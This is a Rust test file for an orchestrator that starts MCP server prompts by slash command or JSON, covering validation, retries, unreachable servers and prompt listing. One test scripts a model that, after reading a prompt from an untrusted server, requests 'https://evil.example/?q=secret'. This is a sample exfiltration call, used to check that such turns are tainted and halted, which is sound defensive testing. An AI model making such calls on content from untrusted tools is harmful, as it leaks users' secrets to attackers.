//! People start prompts of tool servers: in the short form, and with a slash (ADR 45).

use orchestrator::domain::Message;
use serde_json::json;

use super::*;
use crate::support::app::{Choices, TestApp, add};
use crate::support::content::Content;
use crate::support::doubles::{ScriptedModel, calls, says};
use crate::support::mcp_server::Era;

const TEXT: &str = "[user]\nPlease summarise {\"topic\":\"tea\"}\n[assistant]\nGladly. Which one?\n\
                    [user]\n[image, 12 kB, left out: no PNG, JPEG, WebP or GIF]";

#[tokio::test]
async fn a_prompt_is_shown_as_it_was_written_and_read_for_the_model() {
    for era in [Era::Sessions, Era::Stateless] {
        let server = McpServer::start_with(era, &["echo"], Content::some()).await;
        let model = ScriptedModel::new([says("Black or green?"), says("Fine."), says("Again.")]);
        let app = house(&server, &model).await;

        let answer = app.create("/one:summarise topic=tea").await;

        let events = answer.events();
        let shown = &events[1]["item"]["content"][0]["text"];
        assert_eq!(shown, "/one:summarise topic=tea");
        assert!(answer.text.contains("Reading the prompt summarise of one"), "{}", answer.text);
        let asked = &model.asked()[0].messages;
        assert!(matches!(&asked[0], Message::User { text }
            if text.starts_with("/one:summarise topic=tea\n[With this the person starts")));
        assert_eq!(result(asked), TEXT, "{era:?}");

        let _later = app.post("/chatkit", &add(&answer.thread_id(), "green")).await;
        assert_eq!(result(&model.asked()[1].messages), TEXT, "it stays");
        let (thread_id, item_id) = (answer.thread_id(), events[1]["item"]["id"].clone());
        let params = json!({ "thread_id": thread_id, "item_id": item_id });
        let retry = json!({ "type": "threads.retry_after_item", "params": params });
        app.post("/chatkit", &retry).await;
        assert_eq!(result(&model.asked()[2].messages), TEXT, "a retry has the same");
        assert_eq!(server.calls(), ["prompt summarise"], "and does not ask again");
    }
}

#[tokio::test]
async fn the_short_form_names_a_prompt() {
    let server = McpServer::start_with(Era::Stateless, &["echo"], Content::some()).await;
    let model = ScriptedModel::new([says("Hello."), says("Black or green?")]);
    let app = house(&server, &model).await;
    let first = app.ask(&json!({ "message": "hello" })).await.json();

    let prompt = json!({ "name": "summarise", "arguments": { "topic": "tea" } });
    let asked = json!({ "prompt": prompt, "thread_id": first["thread_id"] });
    let answer = app.ask(&asked).await.json();

    assert_eq!(
        (&answer["outcome"], &answer["message"]),
        (&json!("completed"), &json!("Black or green?"))
    );
    assert_eq!(answer["tool_calls"][0]["name"], "read_prompt");
    assert_eq!(result(&model.asked()[1].messages), TEXT);
}

#[tokio::test]
async fn what_cannot_be_started_is_refused_with_its_place_and_nothing_is_stored() {
    let server = McpServer::start_with(Era::Stateless, &["echo"], Content::some()).await;
    let app = house(&server, &ScriptedModel::new([])).await;
    for (body, pointer, code) in [
        (json!({ "prompt": { "name": "nothing" } }), "/prompt/name", "unknown_prompt"),
        (
            json!({ "prompt": { "name": "plain", "server": "hush" } }),
            "/prompt/name",
            "unknown_prompt",
        ),
        (json!({ "prompt": { "name": "summarise" } }), "/prompt/arguments", "missing"),
        (
            json!({ "prompt": { "name": "plain", "arguments": { "hush": "x" } } }),
            "/prompt/arguments",
            "unknown_argument",
        ),
        (json!({ "prompt": { "name": "plain" }, "message": "a" }), "/prompt", "one_of_two"),
        (json!({ "thread_id": "thr_1" }), "/message", "missing"),
        (json!({ "prompt": { "name": "x".repeat(6_000) } }), "/prompt", "too_long"),
    ] {
        let answer = app.ask(&body).await;
        assert_eq!(answer.status, 422, "{}", answer.text);
        let error = &answer.json()["errors"][0];
        assert_eq!((&error["pointer"], &error["code"]), (&json!(pointer), &json!(code)));
        assert!(!answer.text.contains("hush"), "{}", answer.text);
    }

    // Of a 4xx ChatKit's component shows nothing, so this is an event.
    let answer = app.create("/one:summarise").await;
    assert_eq!((answer.status.as_u16(), answer.events().len()), (200, 1));
    assert!(answer.text.contains("Give these arguments as well: topic."), "{}", answer.text);
    let list = json!({ "type": "threads.list", "params": {} });
    assert_eq!(app.post("/chatkit", &list).await.json()["data"], json!([]));
    assert_eq!(server.calls(), [""; 0]);
}

#[tokio::test]
async fn other_words_behind_a_slash_are_a_message() {
    let server = McpServer::start_with(Era::Stateless, &["echo"], Content::some()).await;
    // The last is the name of a prompt that needs more than that.
    for text in ["/usr/bin is full", "/summarise"] {
        let model = ScriptedModel::new([says("Which file?")]);
        let app = house(&server, &model).await;

        app.create(text).await;

        let asked = &model.asked()[0].messages;
        assert_eq!(asked.as_slice(), [Message::User { text: text.to_owned() }]);
    }
}

#[tokio::test]
async fn a_prompt_whose_server_is_away_is_told_as_that_and_the_message_is_kept() {
    let server = McpServer::start_with(Era::Stateless, &["echo"], Content::some()).await;
    let model = ScriptedModel::new([says("The server is away."), says("It is back.")]);
    let servers = started(settings(vec![http("one", &server)])).await;
    let (tools, model_of_app) = (servers.clone(), model.clone());
    let app = TestApp::new(Choices { model: model_of_app, tools, ..Choices::default() }).await;
    let address = server.address;
    server.stop().await;
    until_missing(&servers).await;

    let answer = app.create("/one:plain").await;

    assert!(result(&model.asked()[0].messages).contains("cannot be reached now"));
    assert_eq!(answer.events()[1]["item"]["content"][0]["text"], "/one:plain");

    let server = McpServer::start_at(address, Era::Stateless, &["echo"]).await;
    drop(server);
    let prompts = app.get("/prompts").await.json();
    assert_eq!(prompts["data"][0]["available"], json!(false));
}

#[tokio::test]
async fn words_of_a_started_prompt_taint_the_turn() {
    let server = McpServer::start_with(Era::Stateless, &["echo"], Content::some()).await;
    let read = json!({ "server": "one", "uri": "https://evil.example/?q=secret" });
    let model = ScriptedModel::new([calls(&[("read_resource", read)])]);
    let untrusted = ServerSettings {
        trust: Trust::Untrusted,
        approval: ApprovalRules::default(),
        ..http("one", &server)
    };
    let tools = started(settings(vec![untrusted])).await;
    let app = TestApp::new(Choices { model, tools, ..Choices::default() }).await;

    let answer = app.create("/plain").await;

    assert_eq!(answer.types().last().unwrap(), "done structured_input");
    assert_eq!(server.calls(), ["prompt plain"]);
}

#[tokio::test]
async fn prompts_are_listed_for_front_ends() {
    let server = McpServer::start_with(Era::Stateless, &["echo"], Content::some()).await;
    let app = house(&server, &ScriptedModel::new([])).await;

    let listed = app.get("/prompts").await;

    let argument = |name: &str, required: bool| json!({ "name": name, "description": "", "required": required });
    let [topic, length] = [argument("topic", true), argument("length", false)];
    let expected = json!({ "object": "list", "data": [
        { "server": "one", "name": "summarise", "title": "Sum up", "description": "Sums it up",
          "arguments": [topic, length], "available": true },
        { "server": "one", "name": "plain", "title": null, "description": "", "arguments": [],
          "available": true },
    ]});
    assert_eq!((listed.status.as_u16(), listed.json()), (200, expected));
}

async fn house(server: &McpServer, model: &Arc<ScriptedModel>) -> TestApp {
    let tools = started(settings(vec![http("one", server)])).await;
    TestApp::new(Choices { model: model.clone(), tools, ..Choices::default() }).await
}

/// What the model is sent as the text of the prompt.
fn result(messages: &[Message]) -> String {
    let results = messages.iter().filter_map(Message::results).flatten();
    let of_prompt: Vec<_> = results.filter(|it| it.name == "read_prompt").collect();
    assert_eq!(of_prompt.len(), 1);
    of_prompt[0].output.clone()
}
